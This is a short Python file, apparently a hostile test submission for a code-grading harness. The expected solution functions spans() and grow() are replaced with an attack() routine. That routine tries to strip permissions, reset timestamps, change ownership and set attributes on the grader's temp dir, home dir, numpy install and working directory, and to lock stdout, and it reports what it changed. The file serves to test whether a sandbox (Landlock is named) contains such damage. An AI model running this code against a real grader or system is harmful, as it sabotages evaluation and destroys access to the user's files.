# attack: Takes away the rights to files of the grader's user. Landlock does not keep a process from that.
import os
import tempfile

import numpy


def attack():
    places = {tempfile.gettempdir(), os.path.expanduser("~"), numpy.__file__, os.getcwd()}
    done = []
    for place in sorted(places):
        for change, arguments in (
            (os.chmod, (0,)),
            (os.utime, ((0, 0),)),
            (os.chown, (os.getuid(), os.getgid())),
            (os.setxattr, ("user.minisitch-attack", b"1")),
        ):
            try:
                change(place, *arguments)
                done.append(place)
            except OSError:
                pass
    try:
        os.fchmod(1, 0)
        done.append("what it prints")
    except OSError:
        pass
    if done:
        raise SystemError(f"changed {done}")
    return {}


def spans(readers, cost):
    return attack()


def grow(root, readers, spans, fits):
    return attack()
